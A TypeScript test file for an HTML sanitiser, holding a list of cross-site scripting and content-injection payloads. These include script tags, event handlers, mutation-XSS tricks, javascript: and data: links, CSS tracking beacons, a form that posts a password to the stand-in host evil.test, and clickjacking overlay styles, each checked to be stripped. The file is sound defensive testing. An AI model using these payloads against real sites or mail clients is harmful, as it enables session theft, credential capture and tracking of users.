import { sanitiseHtml } from './sanitise';

/** What may be left of a tag after sanitising; anything else is a hole. */
const ELEMENTS = new Set(
  'a abbr b blockquote br center cite code del div em font h1 h2 hr i img li ol p pre s small span strong sub sup table tbody td th thead tr u ul'.split(
    ' ',
  ),
);
const ATTRIBUTES =
  /^(?:style|title|dir|lang|align|valign|bgcolor|width|height|border|href|rel|target|src|alt|color|face|size|colspan|rowspan|start|type|cellpadding|cellspacing)$/;

const TAG = /<\/?([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*) ?\/?>/g;
const ATTRIBUTE = / ([a-z]+)(?:="([^"]*)")?/g;

interface Tag {
  name: string;
  attributes: [name: string, value: string][];
}

/** All tags, by the one way in which sanitised HTML is written; no "<" may stand outside of them. */
function tagsOf(html: string): Tag[] {
  expect(html.replace(TAG, '')).not.toContain('<');
  return [...html.matchAll(TAG)].map(([, name = '', attributes = '']) => ({
    name,
    attributes: [...attributes.matchAll(ATTRIBUTE)].map(([, key = '', value = '']) => [key, value]),
  }));
}

const sanitised = (html: string): string => sanitiseHtml(html, (id) => (id === 'pic' ? '/inline/1' : null));

/** Each carries "evil" where it would do harm; none may come through in a place that acts. */
const ATTACKS: [string, string][] = [
  ['script', '<script src=//evil.test/x></script>'],
  ['script with a slash', '<script/x>evil()</script>'],
  ['script in upper case with a zero byte', '<SCR\0IPT>evil()</SCR\0IPT>'],
  ['event handler behind a slash', '<img/onerror=evil()/src=x>'],
  ['event handler with a line break', '<img src=x onerror\n=evil()>'],
  ['event handler in an unclosed tag', '<img src=x onerror=evil() '],
  ['event handler after an attribute without end', '<p title="a onclick=evil()>x'],
  ['backticks', '<img src=`x` onerror=evil()>'],
  ['SVG with a handler', '<svg onload=evil()>'],
  ['SVG with animation', '<svg><animate onbegin=evil() attributeName=x></svg>'],
  ['SVG that uses another', '<svg><use href="data:image/svg+xml;base64,evil#x"/></svg>'],
  ['SVG foreignObject', '<svg><foreignObject><iframe src="javascript:evil()"></iframe></foreignObject></svg>'],
  ['MathML link', '<math href="javascript:evil()">x</math>'],
  ['mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=evil()>">'],
  ['mutation through a title', '<title><p id="</title><img src=x onerror=evil()>">'],
  ['mutation through style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=evil()>">'],
  ['mutation through mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>'],
  ['mutation through a table', '<table><a href="x"><td></a><img src=x onerror=evil()></table>'],
  ['mutation through a comment', '<!--><img src=x onerror=evil()>-->'],
  ['mutation through a comment that ends with "--!>"', '<!-- --!><img src=x onerror=evil()>'],
  ['mutation through CDATA', '<svg><![CDATA[><img src=x onerror=evil()>]]></svg>'],
  ['mutation through a processing instruction', '<?xml version="1.0"?><?x ><img src=x onerror=evil()>?>'],
  ['mutation through textarea', '<textarea></textarea><img src=x onerror=evil()></textarea>'],
  ['mutation through xmp', '<xmp><p title="</xmp><img src=x onerror=evil()>">'],
  ['mutation through plaintext', '<plaintext><img src=x onerror=evil()>'],
  ['conditional comment', '<!--[if gte IE 4]><script>evil()</script><![endif]-->'],
  ['downlevel-revealed conditional comment', '<![if !mso]><img src=x onerror=evil()><![endif]>'],
  ['javascript link', '<a href="javascript:evil()">x</a>'],
  ['javascript link with entities', '<a href="&#x6A&#x61;vascript&colon;evil()">x</a>'],
  ['javascript link with control characters', '<a href="\x01java\nscript:evil()">x</a>'],
  ['data link', '<a href="data:text/html,evil">x</a>'],
  ['blob and file links', '<a href="blob:evil">x</a><a href="file://evil/x">y</a>'],
  ['vbscript link', '<a href="vbscript:evil">x</a>'],
  ['link with a base', '<base href="https://evil.test/"><a href="/x">x</a>'],
  ['refresh', '<meta http-equiv="refresh" content="0; url=https://evil.test">'],
  ['content security policy', '<meta http-equiv="Content-Security-Policy" content="script-src evil.test">'],
  [
    'form',
    '<form action="https://evil.test"><input name="password"><button formaction="https://evil.test">Go</button></form>',
  ],
  ['frames', '<iframe srcdoc="<script>evil()</script>"></iframe><frameset><frame src=//evil.test></frameset>'],
  ['objects', '<object data=//evil.test></object><embed src=//evil.test><applet code=evil></applet>'],
  [
    'style sheets',
    '<style>@import "//evil.test/x.css"; body{background:url(//evil.test)}</style><link rel=stylesheet href=//evil.test>',
  ],
  ['style with url()', '<p style="background:url(//evil.test/t.gif)">x</p>'],
  ['style with an escaped url()', '<p style="background:\\75rl(//evil.test)">x</p>'],
  ['style with image-set()', '<p style="background-image:image-set(\'//evil.test\' 1x)">x</p>'],
  ['style with a variable', '<p style="--x:url(//evil.test);background:var(--x)">x</p>'],
  ['style with a comment', '<p style="background:u/**/rl(//evil.test)">x</p>'],
  ['style with expression()', '<p style="width:expression(evil())">x</p>'],
  ['style with a binding', '<p style="-moz-binding:url(//evil.test#x);behavior:url(evil.htc)">x</p>'],
  [
    'remote pictures',
    '<img src="https://evil.test/t.gif"><img src="//evil.test/t.gif"><img srcset="//evil.test/t.gif 1x">',
  ],
  [
    'remote pictures in other attributes',
    '<table background="//evil.test"><tr><td background="//evil.test">x</td></tr></table><body background="//evil.test">',
  ],
  [
    'remote media',
    '<video poster=//evil.test><source src=//evil.test></video><audio src=//evil.test></audio><picture><source srcset=//evil.test></picture>',
  ],
  ['remote input image', '<input type=image src=//evil.test>'],
  ['SVG as a data: picture', '<img src="data:image/svg+xml;base64,evil">'],
  ['pings', '<a href="https://good.test" ping="https://evil.test">x</a>'],
  ['clobbering names', '<a id="evil" name="evil">x</a><img name="evil" src="cid:pic">'],
  [
    'an unknown namespace',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script><o:p onclick=evil()>y</o:p>',
  ],
  ['a shadow root', '<div><template shadowrootmode="open"><script>evil()</script></template></div>'],
  ['a Content-ID with markup', '<img src="cid:&quot;><script>evil()</script>">'],
];

describe('sanitiseHtml makes harmless', () => {
  it.each(ATTACKS)('%s', (_case, attack) => {
    const html = sanitised(`<p>before</p>${attack}`);
    expect(html).toContain('before');
    for (const { name, attributes } of tagsOf(html)) {
      expect(ELEMENTS).toContain(name);
      for (const [key, value] of attributes) {
        expect(key).toMatch(ATTRIBUTES);
        if (['href', 'src', 'style'].includes(key)) expect(value).not.toMatch(/evil|url\(|javascript|data:/i);
      }
    }
  });

  it.each([
    'position:fixed',
    'position:absolute',
    'top:0;left:0;z-index:99',
    'margin-top:-500px',
    'transform:scale(9)',
    'inset:0',
    'opacity:0',
    'clip-path:none',
    'pointer-events:none',
  ])('an overlay by %s', (style) => {
    expect(sanitised(`<div style="${style};width:100%">x</div>`)).toBe('<div style="width:100%">x</div>');
  });
});
